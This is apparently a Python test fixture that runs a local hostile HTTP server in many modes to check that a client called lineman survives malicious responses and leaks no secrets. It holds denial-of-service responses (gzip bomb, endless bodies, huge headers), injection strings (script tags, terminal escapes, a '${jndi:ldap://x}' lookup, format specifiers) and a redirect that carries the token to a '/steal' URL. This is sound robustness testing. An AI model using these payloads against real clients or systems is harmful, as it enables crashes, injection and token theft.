"""A target that attacks whoever asks it: raw answers on a port of this machine, one way of attacking each.

The honest part is the sandbox, asked in this process; a mode changes what it said, or takes the connection over. Every
mode ends with the connection, and a server ends with its block.
"""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
import threading
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from typing import Any

import httpx

from lineman.sandbox import SandboxOptions, create_app, environment

_TOKEN_WORD = "tokenByAkSk"  # a part of the path
_PAUSE = 0.2
"""Seconds between two pieces of what comes slowly."""


@dataclass(frozen=True)
class Asked:
    """A request as it came."""

    method: str
    path: str
    headers: dict[str, str]
    body: bytes
    number: int

    @property
    def for_token(self) -> bool:
        return _TOKEN_WORD in self.path

    @property
    def token(self) -> str:
        return self.headers.get("authorization", "").removeprefix("Bearer ").strip()


@dataclass(frozen=True)
class Said:
    """An answer as it goes."""

    status: int
    headers: tuple[tuple[str, str], ...]
    body: bytes

    def raw(self) -> bytes:
        fields = [*self.headers, ("content-length", str(len(self.body))), ("connection", "close")]
        head = "".join(f"{name}: {value}\r\n" for name, value in fields)
        return f"HTTP/1.1 {self.status} X\r\n{head}\r\n".encode("latin-1", "replace") + self.body


Mode = Callable[[Asked, Said], AsyncIterator[bytes]]
MODES: dict[str, Mode] = {}


def _mode(name: str) -> Callable[[Mode], Mode]:
    def register(function: Mode) -> Mode:
        MODES[name] = function
        return function

    return register


def _whole(name: str, *, queries_only: bool = True) -> Callable[[Callable[[Asked, Said], Said]], None]:
    """Register a way to change the whole answer."""

    def register(change: Callable[[Asked, Said], Said]) -> None:
        async def mode(asked: Asked, said: Said) -> AsyncIterator[bytes]:
            yield (said if queries_only and asked.for_token else change(asked, said)).raw()

        MODES[name] = mode

    return register


def _document(name: str) -> Callable[[Callable[[Asked, dict[str, Any]], object]], None]:
    """Register a way to change the JSON document of a successful query."""

    def register(change: Callable[[Asked, dict[str, Any]], object]) -> None:
        def whole(asked: Asked, said: Said) -> Said:
            document = _records_of(said)
            if document is None:
                return said
            changed = change(asked, document)
            text = changed if isinstance(changed, str) else json.dumps(document, ensure_ascii=False)
            return replace(said, body=text.encode("utf-8", "surrogatepass"))

        _whole(name)(whole)

    return register


def _records_of(said: Said) -> dict[str, Any] | None:
    try:
        document = json.loads(said.body)
    except ValueError:
        return None
    return document if isinstance(document, dict) and isinstance(document.get("data"), dict) else None


def _rows(document: dict[str, Any]) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = document["data"]["calledRouteList"]
    return rows


HONEST = "honest"
"""The mode that attacks nobody: what an honest target costs."""


@_mode(HONEST)
async def _honest_all_along(asked: Asked, said: Said) -> AsyncIterator[bytes]:
    yield said.raw()


# -- time -------------------------------------------------------------------------------------------------------------


@_mode("hang")
async def _hang(asked: Asked, said: Said) -> AsyncIterator[bytes]:
    if asked.for_token:
        yield said.raw()
    else:
        await asyncio.Event().wait()


@_mode("token-hangs")
async def _token_hangs(asked: Asked, said: Said) -> AsyncIterator[bytes]:
    if asked.for_token:
        await asyncio.Event().wait()
    yield said.raw()


@_mode("drip")
async def _drip(asked: Asked, said: Said) -> AsyncIterator[bytes]:
    if asked.for_token:
        yield said.raw()
        return
    for byte in said.raw():
        yield bytes([byte])
        await asyncio.sleep(_PAUSE)


@_mode("drip-after-80")
async def _drip_later(asked: Asked, said: Said) -> AsyncIterator[bytes]:
    if asked.number <= 80:
        yield said.raw()
        return
    async for piece in _drip(asked, said):
        yield piece


@_mode("status-100-for-ever")
async def _continue(asked: Asked, said: Said) -> AsyncIterator[bytes]:
    while not asked.for_token:
        yield b"HTTP/1.1 100 Continue\r\n\r\n"
        await asyncio.sleep(_PAUSE)
    yield said.raw()


@_mode("headers-for-ever")
async def _headers(asked: Asked, said: Said) -> AsyncIterator[bytes]:
    yield b"HTTP/1.1 200 OK\r\n"
    while not asked.for_token:
        yield b"X-More: again\r\n"
        await asyncio.sleep(_PAUSE)


@_mode("429-for-ever")
async def _throttled(asked: Asked, said: Said) -> AsyncIterator[bytes]:
    yield (said if asked.for_token else Said(429, (("retry-after", "86400"),), b"slow down")).raw()


@_mode("body-for-ever")
async def _endless(asked: Asked, said: Said) -> AsyncIterator[bytes]:
    if asked.for_token:
        yield said.raw()
        return
    yield b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n"
    while True:
        yield b"10000\r\n" + b"[" * 0x10000 + b"\r\n"


# -- size -------------------------------------------------------------------------------------------------------------


@_whole("gzip-bomb")
def _bomb(asked: Asked, said: Said) -> Said:
    return Said(200, (("content-type", "application/json"), ("content-encoding", "gzip")), _BOMB)


_BOMB = gzip.compress(bytes(200_000_000), 1)


@_whole("header-of-50-mb")
def _big_header(asked: Asked, said: Said) -> Said:
    return Said(200, (("x-big", "x" * 50_000_000),), b"{}")


@_whole("failed-at")
def _failed_at(asked: Asked, said: Said) -> Said:
    text = "Failed at " + "x" * 600_000
    return Said(
        400, (("content-type", "application/json"),), json.dumps({"returnCode": "1", "description": text}).encode()
    )


@_document("one-description-of-2-mb")
def _long_description(asked: Asked, document: dict[str, Any]) -> None:
    for row in _rows(document)[:1]:
        row["description"] = "热线 abc" * 300_000


@_document("25000-records")
def _many(asked: Asked, document: dict[str, Any]) -> None:
    rows = _rows(document)
    if rows:
        document["data"]["calledRouteList"] = [{**rows[0], "id": str(number)} for number in range(25_000)]


@_document("deep")
def _deep(asked: Asked, document: dict[str, Any]) -> str:
    return '{"returnCode":"0","description":"","data":' + "[" * 200_000 + "]" * 200_000 + "}"


@_document("number-of-10-mb")
def _long_number(asked: Asked, document: dict[str, Any]) -> str:
    return json.dumps(document).replace('"total":', '"total": ' + "9" * 3_900_000 + ', "was":', 1)


# -- numbers and forms ------------------------------------------------------------------------------------------------


def _totals() -> None:
    for name, text in {
        "total-of-400-digits": "9" * 400,
        "total-1e400": "1e400",
        "total-nan": "NaN",
        "total-infinity": "-Infinity",
        "total-minus-zero": "-0",
        "total-true": "true",
        "total-object": '{"$numberLong": "3"}',
    }.items():

        def change(asked: Asked, document: dict[str, Any], text: str = text) -> str:
            document["data"]["total"] = "@"
            return json.dumps(document).replace('"@"', text, 1)

        _document(name)(change)


_totals()


@_whole("expires-of-400-digits", queries_only=False)
def _expires(asked: Asked, said: Said) -> Said:
    return _token_with(asked, said, "9" * 400)


@_whole("expires-1e400", queries_only=False)
def _expires_infinite(asked: Asked, said: Said) -> Said:
    return _token_with(asked, said, 1e300)


def _token_with(asked: Asked, said: Said, expires: object) -> Said:
    if not asked.for_token or said.status != 200:
        return said
    return replace(said, body=json.dumps({**json.loads(said.body), "Expires": expires}).encode())


@_document("null-records")
def _null_records(asked: Asked, document: dict[str, Any]) -> None:
    document["data"]["calledRouteList"] = [None, True, 1e308, [], *_rows(document)]


@_document("lone-surrogates")
def _surrogates(asked: Asked, document: dict[str, Any]) -> str:
    for row in _rows(document):
        row["description"] = "@@"
    return json.dumps(document).replace('"@@"', '"\\ud800 \\udfff\\u0000"')


@_mode("not-http")
async def _not_http(asked: Asked, said: Said) -> AsyncIterator[bytes]:
    yield said.raw() if asked.for_token else b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"


@_mode("cut-after-60-bytes")
async def _cut(asked: Asked, said: Said) -> AsyncIterator[bytes]:
    whole = said.raw()
    yield whole if asked.for_token else whole[: whole.index(b"\r\n\r\n") + 64]


@_mode("chunked-garbage")
async def _garbage(asked: Asked, said: Said) -> AsyncIterator[bytes]:
    yield said.raw() if asked.for_token else b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\nzz\r\nnonsense"


@_whole("redirect-away")
def _redirect(asked: Asked, said: Said) -> Said:
    return Said(302, (("location", f"http://127.0.0.1:9/steal?token={asked.token}"),), b"")


@_whole("login-page")
def _login(asked: Asked, said: Said) -> Said:
    page = b"<!doctype html><title>Sign in</title><form><input type=password></form>"
    return Said(200, (("content-type", "text/html"),), page)


@_whole("not-gzip")
def _not_gzip(asked: Asked, said: Said) -> Said:
    return replace(said, headers=(*said.headers, ("content-encoding", "gzip")))


# -- words ------------------------------------------------------------------------------------------------------------

HOSTILE_WORDS = (
    "\x1b[2J\x1b]0;owned\x07\x9b31m<script>alert(1)</script>\n::error::owned\n##[stop-commands]x\r\n"
    "@everyone [x](javascript:alert(1)) ![](http://127.0.0.1:9/x) \u202eevil\u202c {{7*7}} ${jndi:ldap://x} %s%n"
)


@_document("hostile-words")
def _words(asked: Asked, document: dict[str, Any]) -> None:
    document["description"] = HOSTILE_WORDS
    for row in _rows(document):
        row["description"] = HOSTILE_WORDS


@_whole("hostile-refusal")
def _refusal(asked: Asked, said: Said) -> Said:
    text = json.dumps({"returnCode": HOSTILE_WORDS, "description": HOSTILE_WORDS})
    return Said(400, (("content-type", "application/json"), ("x-word", "\x1b[31m")), text.encode())


# -- secrets ----------------------------------------------------------------------------------------------------------


def _echoes() -> None:
    ways: dict[str, Callable[[str], str]] = {
        "plain": str,
        "upper": str.upper,
        "entities": lambda text: "".join(f"&#{ord(letter)};" for letter in text),
        "soft-hyphens": "\u00ad".join,
        "reversed-base64": lambda text: base64.b64encode(b"ab" + text[::-1].encode()).decode(),
        "marker": lambda text: "[redacted:token]",
    }
    for name, wrap in ways.items():

        def change(asked: Asked, document: dict[str, Any], wrap: Callable[[str], str] = wrap) -> None:
            document["description"] = f"debug {wrap(asked.token)}"

        _document(f"echo-{name}")(change)


_echoes()


@_whole("echo-utf-16")
def _wide(asked: Asked, said: Said) -> Said:
    return replace(said, status=500, body=f"token {asked.token}".encode("utf-16"))


@_whole("echo-as-header-name")
def _header_name(asked: Asked, said: Said) -> Said:
    return replace(said, headers=(*said.headers, (f"X-{asked.token or 'none'}", "1")))


@_whole("echo-as-encoding")
def _encoding(asked: Asked, said: Said) -> Said:
    return replace(said, headers=(*said.headers, ("content-encoding", asked.token.upper() or "gzip")))


@_whole("token-refused-with-secret", queries_only=False)
def _token_refused(asked: Asked, said: Said) -> Said:
    if not asked.for_token:
        return said
    return Said(403, (("content-type", "application/json"), ("x-echo", asked.body.decode("latin-1"))), asked.body)


# -- serving ----------------------------------------------------------------------------------------------------------


@dataclass
class HostileServer:
    """Where it listens, the environment that points lineman at it, and the secrets that must show up nowhere."""

    url: str = ""
    environment: dict[str, str] = field(default_factory=dict)
    secrets: set[str] = field(default_factory=set)


@contextmanager
def attacks(mode: str, records: int = 237) -> Iterator[HostileServer]:
    """Serve one mode until the block ends."""
    options = SandboxOptions(records=records)
    made = HostileServer()
    ready, loop = threading.Event(), asyncio.new_event_loop()
    stop = asyncio.Event()

    def run() -> None:
        loop.run_until_complete(_serve(MODES[mode], options, made, ready, stop))
        loop.close()

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    if not ready.wait(30):
        raise RuntimeError("the hostile server did not start")
    try:
        yield made
    finally:
        loop.call_soon_threadsafe(stop.set)
        thread.join(10)


async def _serve(
    mode: Mode, options: SandboxOptions, made: HostileServer, ready: threading.Event, stop: asyncio.Event
) -> None:
    app = create_app(options)
    counted = iter(range(1, 1_000_000))
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="http://sandbox") as honest:

        async def connected(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            try:
                asked = await _read(reader, next(counted))
                said = await _honest(honest, asked, made)
                async for piece in mode(asked, said):
                    writer.write(piece)
                    await writer.drain()
            except (OSError, asyncio.IncompleteReadError, ValueError):
                pass
            finally:
                writer.close()

        server = await asyncio.start_server(connected, "127.0.0.1", 0)
        made.url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
        made.environment = environment(options, made.url)
        made.secrets |= {value for name, value in made.environment.items() if name.endswith("SECRET")}
        ready.set()
        await stop.wait()
        server.close()
        app.state.service.close()
        await _cancel_the_rest()


async def _cancel_the_rest() -> None:
    others = asyncio.all_tasks() - {asyncio.current_task()}
    for task in others:
        task.cancel()
    await asyncio.gather(*others, return_exceptions=True)


async def _read(reader: asyncio.StreamReader, number: int) -> Asked:
    head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
    first, *lines = head.strip().split("\r\n")
    method, path, _ = first.split(" ", 2)
    headers = {name.strip().lower(): value.strip() for name, _, value in (line.partition(":") for line in lines)}
    body = await reader.readexactly(int(headers.get("content-length", "0")))
    return Asked(method, path, headers, body, number)


async def _honest(honest: httpx.AsyncClient, asked: Asked, made: HostileServer) -> Said:
    kept = {
        name: value for name, value in asked.headers.items() if name not in {"host", "connection", "content-length"}
    }
    answer = await honest.request(asked.method, asked.path, headers=kept, content=asked.body)
    if asked.for_token and answer.status_code == 200:
        made.secrets.add(answer.json()["AccessToken"])
    fields = tuple((name, value) for name, value in answer.headers.items() if name != "content-length")
    return Said(answer.status_code, fields, answer.content)
